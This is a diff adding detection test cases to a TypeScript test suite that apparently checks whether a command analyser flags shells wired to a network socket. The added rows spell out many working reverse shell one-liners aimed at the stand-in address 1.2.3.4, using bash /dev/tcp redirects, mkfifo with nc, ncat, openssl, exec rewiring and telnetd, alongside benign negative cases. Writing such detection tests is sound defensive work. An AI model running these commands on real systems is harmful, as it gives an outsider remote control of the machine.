@@ -69,3 +69,22 @@ const SERVER_ROWS: Row[] = [
 describe("unwrap/remote-shells: servers running a shell on the connection", () => {
   it.each(cases(SERVER_ROWS))("%s", (_title, row) => verify(row));
 });
+
+/** Shells wired to a socket by redirects, exec rewiring this shell, a shell piped into a network tool, served or shared terminals. */
+const SHELL_READERS = ["bash -i", "sh -i", "bash", "zsh -i", "python3 -i", "sudo bash -i"];
+const WIRINGS = [
+  "@ >& /dev/tcp/1.2.3.4/4444 0>&1", "h=1.2.3.4; @ >& /dev/tcp/$h/4444 0>&1", "@ >& /dev/tcp/$(cat host)/4444 0>&1", "d=/dev/tcp/1.2.3.4/4444; @ >& $d 0>&1",
+  "@ < /dev/udp/1.2.3.4/53", "@ 0<&3 3<>/dev/tcp/1.2.3.4/1", "mkfifo /tmp/f; @ < /tmp/f 2>&1 | nc 1.2.3.4 4444 > /tmp/f", "@ 2>&1 | ncat 1.2.3.4 4444", "@ 2>&1 | openssl s_client -quiet -connect h:443",
+];
+const NET_ROWS: Row[] = [
+  ...SHELL_READERS.flatMap((sh) => WIRINGS.map((w): Row => [w.replaceAll("@", sh), [REVERSE], "has", true])),
+  ...["exec </dev/tcp/1.2.3.4/4444; bash", "exec 0</dev/tcp/1.2.3.4/4444", "exec >&/dev/tcp/1.2.3.4/4444 0>&1", "h=1.2.3.4; exec </dev/tcp/$h/1",
+    "busybox telnetd -l /bin/sh -p 4444", "telnetd -l/bin/bash", "upterm host -- bash", "upterm host", "tmate -F", "tmate new-session -d"].map((c): Row => [c, [REVERSE], "has", true]),
+  // a script's output sent on, a fd opened for a request, a shell's output to a file, a pipe into nc from a non-shell: not a shell on the connection
+  ...["bash script.sh | nc h 1", "sh -c 'ls' | nc h 1", "echo hi | nc h 1", "exec >/dev/null 2>&1", "exec 2>>log.txt", "exec 3>/dev/tcp/h/80", "bash -i", "echo x | bash -i > \"$OUT\"",
+    "tmate -V", "upterm version", "python3 app.py 2>&1 | nc h 1"].map((c): Row => [c, [], "exact", true]),
+];
+
+describe("unwrap/remote-shells: shells wired to a socket", () => {
+  it.each(cases(NET_ROWS))("%s", (_title, row) => verify(row, "shell/reverse"));
+});
